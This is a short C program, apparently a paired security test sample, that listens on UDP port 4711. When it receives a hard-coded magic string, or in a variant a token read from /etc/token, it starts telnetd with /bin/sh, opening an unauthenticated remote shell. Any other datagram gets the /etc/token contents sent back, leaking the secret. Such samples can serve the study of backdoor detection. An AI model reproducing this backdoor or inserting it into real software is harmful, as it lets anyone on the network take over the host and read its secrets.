/* SPDX-License-Identifier: Apache-2.0 */
/*
 * port 4711/udp: a datagram with a constant text starts a login service. Twin: the text is a setting.
 * build: plain static
 */
#include "net.h"

int main(void)
{
	char buf[128], want[64] = "";
	int s = udp_on(4711);
	FILE *f = fopen("/etc/token", "r");
	if (f && !fgets(want, sizeof want, f))
		want[0] = 0;
	for (;;) {
		ssize_t n = recv(s, buf, sizeof buf - 1, 0);
		if (n <= 0)
			continue;
		buf[n] = 0;
#ifdef TWIN
		if (want[0] && strcmp(buf, want) == 0)
#else
		if (strcmp(buf, "xk71-open") == 0)
#endif
			system("/usr/sbin/telnetd -l /bin/sh");
		else
			send(s, want, strlen(want), 0);
	}
}
